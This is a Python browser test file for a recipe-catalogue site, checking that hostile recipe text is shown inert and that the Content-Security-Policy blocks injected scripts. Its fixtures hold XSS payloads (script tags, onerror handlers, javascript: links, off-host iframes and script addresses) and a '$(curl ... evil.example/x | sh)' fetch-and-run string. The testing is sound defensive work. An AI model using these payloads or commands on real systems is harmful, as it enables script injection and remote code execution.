"""Hostile recipe text in a real browser: it is shown as text, and nothing in it runs or loads.

The catalogue here holds the seed and one recipe whose every Markdown field, free-text field,
environment value, launch script, withheld variable and conditional value carries attempts to get
markup past the renderer: a fence with attributes inside an indented code sample (which once made
the site's own Markdown build a chart element whose script address came from the recipe), off-host
script and image addresses, raw HTML, attribute lists, javascript: links. Each page that shows the
recipe is opened in Chromium; the tab fails the test on any dialog, page error, console error or
request that leaves the test server.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from typing import Any

import pytest
from conftest import SEED_ID, Project, copy_project

from openrecipes.reading.reference import Reference
from openrecipes.site import pages
from openrecipes_tools import chromium

from .conftest import Watch, project_served_at, watched_tab

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

HOSTILE_ID = "llama-3.1-70b/h100/hostile"
EVIL = "https://evil.example"

FENCE_IN_CODE_SAMPLE = """Tuning notes:

    first line of a code sample
    ```{.text .or-chart data-figure="{}" data-plotly="data:text/javascript,alert(document.domain)"}
    x
    ```
"""
OFF_HOST = f"""Off-host:

    a sample
    ```{{.text .or-chart data-chart="../../evil" data-plotly="{EVIL}/x.js"}}
    x
    ```
"""
FENCED_CHART = """```{.or-chart data-chart="home-cost" onclick="alert(3)"}
x
```
"""
RAW = (
    f"<script>alert(1)</script> <img src=x onerror=alert(2)> ![pixel]({EVIL}/pixel.png) [link](javascript:alert(4)) "
    f'<iframe src="{EVIL}/frame"></iframe>\n\n'
    'A paragraph.\n{: .or-chart data-chart="home-cost" onclick="alert(5)" }\n'
)
VARIANTS = (FENCE_IN_CODE_SAMPLE, OFF_HOST, FENCED_CHART, RAW)
ALL = "\n\n".join(VARIANTS)

# The text a reader must see, as text, on the recipe page.
VISIBLE = (
    '```{.text .or-chart data-figure="{}" data-plotly="data:text/javascript,alert(document.domain)"}',
    f'```{{.text .or-chart data-chart="../../evil" data-plotly="{EVIL}/x.js"}}',
    "<script>alert(1)</script>",
)

MARKDOWN_FIELDS = (("notes",), ("layout", "notes"), ("correctness", "reference"))
TEXT_FIELDS = (("layout", "summary"), ("stack", "source"), ("correctness", "summary"))
# Text that reaches the catalogue tables: the system (the provider column of a recipe without an
# instance) and the framework (a filter). The home page holds only its first row, so the hostile
# recipe's row is drawn by table.js from assets/catalogue-rows.json.
SYSTEM = "<script>alert(8)</script><img src=x onerror=alert(9)>"
FRAMEWORK = "<img src=x onerror=alert(10)> 1.0"
# Addresses in a plain-text note become links (markup.linked_text): a quote or a bracket ends one.
LINKS = (
    f'{EVIL}/"onmouseover="alert(11) {EVIL}/<img src=x onerror=alert(12)> javascript:alert(13) '
    f"{EVIL}/a'onclick='alert(14)"
)

# A variable the publisher's files set that the launch does not export: its value is shown in a warning.
WITHHELD = "<img src=x onerror=alert(15)> $(curl -s https://evil.example/x | sh)"
CONDITIONAL = ("<script>alert(16)</script>", 'if [ "<iframe src=https://evil.example/frame>" ]')
COMMIT = "a" * 40
# A preparation step: what it does, its commands, the session typed in a container and its notes and
# input, each carrying markup; the page shows each as text and prepare.sh as the file's text.
PREPARATION = {
    "what": "<script>alert(17)</script> Build the container",
    "file": "run.sh",
    "lines": [3, 4],
    "commands": "echo '<img src=x onerror=alert(18)>'  # <iframe src=https://evil.example/frame>\n",
    "session": 'echo "<script>alert(19)</script>"\n',
    "inputs": [{"name": "<registry login>", "description": "<img src=x onerror=alert(20)>", "kind": "account"}],
    "notes": f'<script>alert(21)</script> {EVIL}/"onmouseover="alert(22)',
}


def _set(data: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
    for key in path[:-1]:
        data = data[key]
    data[path[-1]] = value


@pytest.fixture(scope="module")
def hostile_site(
    chromium_available: None, tmp_path_factory: pytest.TempPathFactory, reference: Reference
) -> Iterator[str]:
    base = tmp_path_factory.mktemp("hostile")
    site_dir = base / "site"
    site_dir.mkdir()
    with chromium.serving(site_dir) as url:
        project = Project(copy_project(base / "project"), reference)
        project_served_at(project, url)
        project.add_seed()
        data = project.add_synthetic(HOSTILE_ID)
        for path in MARKDOWN_FIELDS:
            _set(data, path, ALL)
        for path in TEXT_FIELDS:
            _set(data, path, RAW.replace("\n", " "))
        data["patches"] = [{"name": FENCED_CHART.replace("\n", " "), "description": ALL}]
        data["author"]["name"] = "<img src=x onerror=alert(6)>"
        data["env"] = {"HOSTILE": '$(curl -s https://evil.example/x | sh) "`x`"'}
        data["run"] = ALL + "\n" + FENCE_IN_CODE_SAMPLE.replace("    ", "")
        data["gpu"] = {**data["gpu"], "instance": None, "system": SYSTEM}
        data["result"]["usd_per_million_tokens"] = None
        data["stack"]["framework"] = FRAMEWORK
        data["result"]["mfu_note"] = LINKS
        data["launch"] = {
            "kind": "documented",
            "source": {
                "repository": "evil/repo",
                "commit": COMMIT,
                "files": [{"path": "run.sh", "url": f"https://github.com/evil/repo/blob/{COMMIT}/run.sh"}],
            },
            "checkout": f"git clone https://github.com/evil/repo.git\ncd repo\ngit switch --detach {COMMIT}\n",
            "command": "bash run.sh\n",
            "inputs": [],
            "withheld": [{"name": "LD_PRELOAD", "value": WITHHELD, "file": "run.sh", "line": 1}],
            "preparation": [PREPARATION],
            "conditional": [
                {
                    "name": "NCCL_DEBUG",
                    "value": CONDITIONAL[0],
                    "condition": CONDITIONAL[1],
                    "file": "run.sh",
                    "line": 2,
                }
            ],
        }
        project.add(HOSTILE_ID, data)
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(pages, "HOME_ROWS", 1)
            result = project.build()
        assert result.ok, result.log
        shutil.rmtree(site_dir)
        shutil.move(result.site, site_dir)
        yield url


@pytest.fixture
def tab(browser_context: Any, hostile_site: str, watch: Watch) -> Iterator[Any]:
    with watched_tab(browser_context, hostile_site, watch) as opened:
        yield opened


PAGES = (
    f"recipes/{HOSTILE_ID}/",
    "",
    "models/llama-3.1-70b/",
    "gpus/h100/",
    f"compare/?a={HOSTILE_ID}&b={SEED_ID}",
    f"recipes/{SEED_ID}/",
)


@pytest.mark.parametrize("path", PAGES)
def test_no_page_that_shows_the_recipe_runs_or_loads_anything_from_it(tab: Any, hostile_site: str, path: str) -> None:
    tab.goto(hostile_site + path)
    tab.wait_for_load_state("networkidle")
    # Only the site's own chart elements, naming only the site's own figures.
    names = tab.eval_on_selector_all(".or-chart", "charts => charts.map(c => c.getAttribute('data-chart'))")
    assert all(re.fullmatch(r"(home|model|gpu)-[a-z0-9.-]+-?(cost|mfu)|home-(cost|mfu)", n or "") for n in names)
    if path.startswith(f"recipes/{HOSTILE_ID}"):
        assert names == []
        # No element came from the recipe's text: no iframe, image, handler or javascript: link.
        assert tab.locator("article iframe, article img").count() == 0
        handlers = tab.eval_on_selector_all(
            "article *", "els => els.flatMap(e => e.getAttributeNames().filter(n => n.startsWith('on')))"
        )
        assert handlers == []
        assert tab.locator("article a[href^='javascript']").count() == 0


def test_a_table_row_drawn_from_the_data_shows_its_text_as_text(tab: Any, hostile_site: str) -> None:
    tab.goto(hostile_site)
    row = f"[data-or-catalogue] tr[data-recipe='{HOSTILE_ID}']"
    tab.wait_for_selector(row)
    assert tab.text_content(f"{row} td[data-key='provider']") == SYSTEM
    assert tab.get_attribute(row, "data-framework") == "<img"
    assert tab.locator("select[data-or-filter='framework'] option[value='<img']").count() == 1
    assert tab.locator("article script, article img, article iframe").count() == 0
    handlers = tab.eval_on_selector_all(
        "article *", "els => els.flatMap(e => e.getAttributeNames().filter(n => n.startsWith('on')))"
    )
    assert handlers == []


def test_the_recipe_text_is_shown_as_text(tab: Any, hostile_site: str) -> None:
    tab.goto(hostile_site + f"recipes/{HOSTILE_ID}/")
    text = tab.inner_text("article")
    for fragment in VISIBLE:
        assert fragment in text
    assert f"LD_PRELOAD={WITHHELD}, set by run.sh line 1" in text
    assert f"NCCL_DEBUG\t{CONDITIONAL[0]}\t{CONDITIONAL[1]}\trun.sh line 2" in text
    # The launch script is the file's text, byte for byte, as the reader copies it.
    script = tab.eval_on_selector_all("article pre code", "codes => codes.map(c => c.textContent)")
    assert any(code == ALL + "\n" + FENCE_IN_CODE_SAMPLE.replace("    ", "") for code in script)
    # So are a preparation step's commands and session, and what it does, its notes and its input.
    assert PREPARATION["commands"] in script and PREPARATION["session"] in script
    assert f"Step 1: {PREPARATION['what']} (run.sh lines 3\u20134)" in text
    assert PREPARATION["notes"] in text and "<img src=x onerror=alert(20)>" in text
    assert any(code.startswith("#!/usr/bin/env bash") and PREPARATION["commands"] in code for code in script)


def test_the_policy_stops_a_script_that_reaches_a_page_anyway(browser_context: Any, hostile_site: str) -> None:
    """Should recipe text ever reach a page as markup, the Content-Security-Policy keeps it inert:
    simulate the worst case by writing an inline script and an off-host script into a built page."""
    watch = Watch()
    with watched_tab(browser_context, hostile_site, watch) as opened:
        violations: list[str] = []
        opened.on(
            "console", lambda message: "Content Security Policy" in message.text and violations.append(message.text)
        )
        # Intercept the page and inject what an injection bug would let through.
        page_url = hostile_site + f"recipes/{HOSTILE_ID}/"

        def inject(route: Any) -> None:
            response = route.fetch()
            body = response.text().replace(
                "</article>",
                f'<script>alert("inline")</script><script src="data:text/javascript,alert(1)"></script>'
                f'<img src="{EVIL}/pixel.png"></article>',
            )
            route.fulfill(response=response, body=body)

        opened.route(page_url, inject)
        opened.goto(page_url)
        opened.wait_for_load_state("networkidle")
        watch.errors = [error for error in watch.errors if "Content Security Policy" not in error]
    assert len(violations) >= 2


def test_addresses_in_notes_are_links_and_nothing_more(tab: Any, hostile_site: str) -> None:
    tab.goto(hostile_site + f"recipes/{HOSTILE_ID}/")
    note = tab.locator("p.or-note", has_text="About the MFU")
    assert note.inner_text() == f"About the MFU: {LINKS}"  # every character shown, as text
    links = note.locator("a").evaluate_all(
        "links => links.map(a => [a.getAttribute('href'), a.getAttribute('rel'), a.getAttributeNames().join(' ')])"
    )
    assert links == [[f"{EVIL}/", "nofollow noopener", "href rel"]] * 2 + [
        [f"{EVIL}/a", "nofollow noopener", "href rel"]
    ]
